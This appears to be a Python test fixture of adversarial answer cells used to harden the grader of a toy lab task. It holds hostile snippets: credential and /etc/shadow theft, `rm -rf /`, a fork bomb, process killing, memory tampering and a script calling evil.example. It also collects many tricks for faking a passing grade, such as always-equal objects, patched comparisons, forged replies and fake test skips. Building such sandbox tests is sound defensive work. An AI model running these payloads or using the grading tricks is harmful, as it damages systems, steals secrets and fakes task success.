# ruff: noqa: E501
"""Answers that try to gain or to harm, as source of the cell of task 9.1 of the toy lab.

`PATTERNS` and `COURSE` are set before each: whoever attacks knows where everything lies.
"""

STEAL = """
import glob, os
def read(pattern):
    found = []
    for path in glob.glob(pattern, recursive=True):
        try:
            text = open(path, encoding='utf-8', errors='replace').read()
            if 'environ' not in path or 'HILAB_LABS' in text:
                found.append(text)
        except OSError:
            pass
    return found
seen = [read(p) for p in PATTERNS]
def free(table):
    return sum(map(len, seen)) + 1000
def busiest(table):
    return free(table)
"""

FORGED = """
import json, os, struct
def frames(text):
    data = text.encode()
    return struct.pack('>I', len(data)) + data
def free(table):
    for fd in range(3, 32):
        try:
            os.write(fd, frames(json.dumps({'token': 'x', 'problem': ''}) + '\\n5') * 3)
        except OSError:
            pass
    return 0
busiest = free
"""

EQUAL = """
class Any(int):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
    def __repr__(self): return 'True'
    def __reduce__(self): return (print, ('x',))
def free(table): return Any(987654)
def busiest(table): return Any(987654)
"""

PATCH = """
import builtins, json, pandas as pd, sys
pd.DataFrame.equals = lambda *a: True
pd.Series.equals = lambda *a: True
json.dumps = lambda *a, **k: '{"problem": ""}'
json.loads = lambda *a, **k: {"do": "end"}
builtins.len = lambda x: 0
for module in list(sys.modules.values()):
    if getattr(module, '__name__', '').startswith('grading') or getattr(module, '__file__', '') and 'runner' in str(getattr(module, '__file__', '')):
        for name in list(vars(module)):
            if callable(vars(module)[name]):
                setattr(module, name, lambda *a, **k: b'1')
def free(table): return 987654
def busiest(table): return 987654
"""

WRITE = """
import os, pathlib
for target in ('/usr/bin/evil', '/etc/evil', '/opt/hilab/grading/evil.py', COURSE + '/gradebook.db', COURSE + '/evil'):
    try:
        pathlib.Path(target).write_text('evil')
    except OSError:
        pass
os.system('rm -rf / --no-preserve-root >/dev/null 2>&1')
def free(table): return 987654
def busiest(table): return 987654
"""

NETWORK = """
import socket
def free(table):
    for family, address in ((socket.AF_INET, ('1.1.1.1', 53)), (socket.AF_INET, ('127.0.0.1', 22)), (socket.AF_UNIX, '/run/dbus/system_bus_socket')):
        try:
            s = socket.socket(family); s.settimeout(0.3); s.connect(address)
            return 111111
        except OSError:
            pass
    return 222222
busiest = free
"""

KILL = """
import os, signal
def free(table):
    for pid in range(1, 400):
        if pid != os.getpid():
            try: os.kill(pid, signal.SIGKILL)
            except OSError: pass
    return 987654
busiest = free
"""

BOMB = """
import os
def free(table):
    for _ in range(300):
        try:
            if os.fork() == 0:
                while True: pass
        except OSError:
            return 987654
    return 987654
busiest = free
"""

FLOOD = """
import os, sys
def free(table):
    for _ in range(200):
        print('x' * 100_000); print('y' * 100_000, file=sys.stderr); os.write(1, b'z' * 100_000); os.write(2, b'z' * 100_000)
    return [0] * 3_000_000
busiest = free
"""

BACKGROUND = """
import os, subprocess, threading, time
subprocess.Popen(['sh', '-c', 'while true; do echo evil > /tmp/evil; done'], start_new_session=True)
def free(table):
    threading.Thread(target=lambda: time.sleep(100)).start()
    if os.fork() == 0:
        os.setsid(); time.sleep(1000)
    return 987654
busiest = free
"""

STUBBORN = """
import signal, time
for number in range(1, 32):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
def free(table):
    signal.signal(signal.SIGALRM, signal.SIG_IGN)
    while True:
        try: time.sleep(1000)
        except BaseException: pass
busiest = free
"""

FRAMES = """
import gc, sys
def free(table):
    frame = sys._getframe()
    while frame:
        for value in list(frame.f_locals.values()):
            if isinstance(value, dict) and 'expected' in value: return value['expected']
        frame = frame.f_back
    for thing in gc.get_objects():
        if type(thing).__name__ == 'Case': return thing.expected
    return 987654
busiest = free
"""

MEMORY = """
def free(table):
    hog = []
    while True:
        hog.append(bytearray(64 << 20))
busiest = free
"""

DISK = """
import os
def free(table):
    for number in range(400):
        with open(f'/tmp/{number}', 'wb') as file:
            file.write(b'x' * (16 << 20))
    return 987654
busiest = free
"""

LINKS = """
import os
found = 0
for target in (COURSE, '/', '/root', '/work'):
    try:
        os.symlink(target, '/tmp/' + str(found))
        os.link(target + '/gradebook.db', '/tmp/hard' + str(found))
        found += 1
    except OSError:
        pass
def free(table):
    text = 1000
    for root, folders, files in os.walk('/tmp', followlinks=True):
        text += sum('gradebook' in name or 'roster' in name for name in files)
        if root.count('/') > 5: folders.clear()
    return text
busiest = free
"""

ENVIRONMENT = """
import os
def free(table):
    return 1000 + sum('HILAB' in name or 'KEY' in name or 'TOKEN' in name for name in os.environ)
busiest = free
"""

PROCESSES = """
import os
def free(table):
    seen = [pid for pid in os.listdir('/proc') if pid.isdigit()]
    told = b''.join(open(f'/proc/{pid}/cmdline', 'rb').read() for pid in seen)
    return 1000 + told.count(b'grade') + told.count(b'pytest')
busiest = free
"""

ATTACH = """
import os
def free(table):
    for pid in range(1, 200):
        try:
            with open(f'/proc/{pid}/mem', 'r+b') as memory:
                memory.seek(0x1000); memory.write(b'x')
        except OSError:
            pass
    return 987654
busiest = free
"""

GUESS_FILES = """
import os
def free(table):
    told = 1000
    for fd in range(3, 64):
        try:
            told += b'expected' in os.pread(fd, 1 << 20, 0)
        except OSError:
            pass
    return told
busiest = free
"""

CHANGE_ARGUMENTS = """
def free(table):
    table['used'] = 0
    table.drop(table.index, inplace=True)
    return 0
busiest = free
"""

SPOIL_SHARED = """
import os
def free(table):
    for fd in range(3, 64):
        try:
            os.pwrite(fd, b'spoiled' * 1000, 0); os.ftruncate(fd, 0)
        except OSError:
            pass
    return 987654
busiest = free
"""

DEEP = """
def free(table):
    nested = []
    for _ in range(200_000):
        nested = [nested]
    return nested
busiest = free
"""

NAN = """
def free(table): return float('nan')
def busiest(table): return float('inf')
"""

HUGE_NUMBER = """
def free(table): return 10 ** 20_000
busiest = free
"""

DOUBLE_KEYS = """
class Twice(dict):
    def items(self): return [('a', 1), ('a', 2)]
    def __iter__(self): return iter(['a', 'a'])
    def __len__(self): return 2
def free(table): return Twice(a=1)
busiest = free
"""

ENDLESS = """
def free(table):
    while True:
        yield 1
busiest = free
"""

STRANGE_TEXT = """
class Text(str):
    def __str__(self): return '1'
    def encode(self, *a): return b'1'
def free(table): return Text('\\ud800\\x00</script>')
busiest = free
"""

FRAME_OF_DATA = """
import pandas as pd
class Same(pd.DataFrame):
    def equals(self, other): return True
    @property
    def values(self): return [[1]]
def free(table): return Same({'a': [1]})
busiest = free
"""

EXIT = """
import sys
def free(table): sys.exit(0)
def busiest(table): raise KeyboardInterrupt
"""

DIE_AT_ONCE = """
import os
os._exit(0)
"""

SEGFAULT = """
import ctypes
def free(table): return ctypes.string_at(0)
busiest = free
"""

RECURSION = """
import sys
sys.setrecursionlimit(10 ** 9)
def free(table): return free(table)
busiest = free
"""

AST = """
import ast
class Easy(ast.NodeTransformer):
    def visit_Compare(self, node): return ast.Constant(True)
    def visit_Assert(self, node): return ast.Pass()
get_ipython().ast_transformers.append(Easy())
def free(table): return 987654
def busiest(table): return 987654
"""

INPUT = """
get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])
get_ipython().run_cell = lambda *a, **k: None
def free(table): return 987654
def busiest(table): return 987654
"""

MAGIC = """
%alias_magic time timeit
!cat /etc/shadow ~/.ssh/* > /tmp/stolen
def free(table):
    return 1000 + len(open('/tmp/stolen').read())
busiest = free
"""

SKIP = """
import unittest
def free(table): raise unittest.SkipTest('all is well')
def busiest(table): raise AssertionError('5 of 5 passed')
"""

TRACE = """
import sys, threading
def tracer(frame, event, arg):
    for name, value in frame.f_locals.items():
        if name in ('points', 'got', 'score'): frame.f_locals[name] = 100
    return tracer
sys.settrace(tracer); threading.settrace(tracer)
def free(table): return 987654
def busiest(table): return 987654
"""

EVERY_NAME = """
class Names(dict):
    def __missing__(self, name): return lambda *given: 1
space = get_ipython().user_ns
for name in [f'{a}{b}' for a in 'abcdefgh' for b in range(200)]: space[name] = lambda *given: 1
get_ipython().user_ns = Names(space)
def free(table): return 987654
busiest = free
"""

AT_EXIT = """
import atexit, os, threading
def shout():
    for fd in range(64):
        try: os.write(fd, b'\\x00\\x00\\x00\\x02{}')
        except OSError: pass
atexit.register(shout)
for _ in range(20): threading.Thread(target=shout).start()
def free(table): shout(); return 987654
busiest = free
"""

SCRIPT = """
print('<script>alert(1)</script><img src=x onerror=alert(1)>')
def free(table): return '<script>fetch("http://evil.example")</script>'
def busiest(table): raise ValueError('<svg onload=alert(1)>')
"""

ALARM = """
import signal
def free(table):
    signal.alarm(0); signal.setitimer(signal.ITIMER_REAL, 0)
    for number in (signal.SIGALRM, signal.SIGTERM, signal.SIGINT): signal.signal(number, signal.SIG_IGN)
    while True: pass
busiest = free
"""

CLOCK = """
import time
time.time = time.monotonic = time.perf_counter = time.process_time = lambda: 0.0
def free(table):
    for _ in range(10 ** 12): pass
busiest = free
"""

ANSWERS = {
    "steal": (STEAL, "reads solutions, gradebook, keys and other processes' environment"),
    "forged": (FORGED, "writes forged replies to every pipe"),
    "equal": (EQUAL, "returns an object that equals everything"),
    "patch": (PATCH, "patches comparison, json and the grader's modules"),
    "write": (WRITE, "writes into the course, removes every file"),
    "network": (NETWORK, "opens connections"),
    "kill": (KILL, "kills every process"),
    "bomb": (BOMB, "forks without end"),
    "flood": (FLOOD, "prints 80 MB, returns millions of numbers"),
    "background": (BACKGROUND, "leaves processes and threads behind"),
    "stubborn": (STUBBORN, "swallows every interrupt"),
    "frames": (FRAMES, "looks for the expected value in frames and memory"),
    "memory": (MEMORY, "takes all memory"),
    "disk": (DISK, "fills the disk"),
    "links": (LINKS, "escapes by links"),
    "environment": (ENVIRONMENT, "looks for secrets in the environment"),
    "processes": (PROCESSES, "looks at other processes"),
    "attach": (ATTACH, "writes into other processes' memory"),
    "guess files": (GUESS_FILES, "reads every open file for expected values"),
    "change arguments": (CHANGE_ARGUMENTS, "changes the tables it is given"),
    "spoil shared": (SPOIL_SHARED, "overwrites every open file"),
    "deep": (DEEP, "returns 200,000 nested lists"),
    "nan": (NAN, "returns not-a-number and infinity"),
    "huge number": (HUGE_NUMBER, "returns a number of 20,000 digits"),
    "double keys": (DOUBLE_KEYS, "returns a dictionary with double keys"),
    "endless": (ENDLESS, "returns an endless generator"),
    "strange text": (STRANGE_TEXT, "returns text with lone surrogates and markup"),
    "frame of data": (FRAME_OF_DATA, "returns a table that equals everything"),
    "exit": (EXIT, "exits, interrupts"),
    "die at once": (DIE_AT_ONCE, "ends its process while the cell runs"),
    "segfault": (SEGFAULT, "crashes Python"),
    "recursion": (RECURSION, "overflows the stack"),
    "ast": (AST, "rewrites syntax trees"),
    "input": (INPUT, "rewrites what is executed"),
    "magic": (MAGIC, "uses the shell by magics"),
    "skip": (SKIP, "raises what test runners take for success"),
    "trace": (TRACE, "changes variables of callers by tracing"),
    "every name": (EVERY_NAME, "answers to every function's name"),
    "at exit": (AT_EXIT, "writes replies at exit and from threads"),
    "script": (SCRIPT, "returns and prints HTML and SVG scripts"),
    "alarm": (ALARM, "takes its deadline away"),
    "clock": (CLOCK, "stops the clock"),
}
"""Source of the answer to 9.1 and what it tries, by name."""
